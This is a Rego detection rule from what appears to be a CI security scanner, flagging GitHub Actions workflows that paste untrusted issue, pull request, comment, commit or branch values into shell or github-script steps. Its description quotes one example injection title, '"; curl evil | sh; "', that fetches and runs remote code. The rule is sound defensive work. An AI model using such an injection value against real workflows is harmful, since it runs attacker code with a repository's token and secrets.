# VIGIL-GHA-003: Untrusted input expanded in a script.
package vigil.rules.gha_003

import data.vigil.lib
import rego.v1

metadata := {
	"id": "VIGIL-GHA-003",
	"title": "Untrusted input expanded in a script",
	"severity": "HIGH",
	"description": "`${{ }}` expressions are pasted into a `run` script (or an `actions/github-script` script) before it runs. Issue and pull request titles and bodies, comments, commit messages and branch names are written by outsiders: a title such as `\"; curl evil | sh; \"` becomes shell code running with the job's token and secrets.",
	"remediation": "Pass the value through an environment variable (`env: TITLE: ${{ github.event.issue.title }}`) and use it quoted (`\"$TITLE\"`), or as `process.env.TITLE` in github-script.",
	"references": ["https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections", "https://securitylab.github.com/resources/github-actions-untrusted-input/"],
	"formats": ["github-actions"],
	"status": "stable",
}

deny contains res if {
	some j in input.jobs
	some st in j.steps
	some e in st.expressions
	script(st, e.field)
	regex.match(untrusted, e.expression)
	res := {"msg": sprintf("step %d of %s expands ${{ %s }} in its script", [st.index + 1, j.id, e.expression]), "line": e.line, "resource": j.id}
}

# Context values anyone who opens an issue or pull request, comments or
# pushes a branch chooses.
untrusted := `(^|[^A-Za-z0-9_.])github\.(head_ref|event\.(issue|pull_request|discussion)\.(title|body)|event\.(comment|review|review_comment)\.body|event\.pull_request\.head\.(ref|label|repo\.default_branch)|event\.(workflow_run\.)?head_commit\.(message|author\.(email|name))|event\.commits(\[[0-9*]+\]|\.\*)\.(message|author\.(email|name))|event\.pages(\[[0-9*]+\]|\.\*)\.page_name|event\.workflow_run\.(head_branch|display_title))`

script(_, field) if field == "run"

script(st, "with.script") if {
	is_object(st.action)
	is_string(st.action.repo)
	lower(st.action.repo) == "github-script"
}
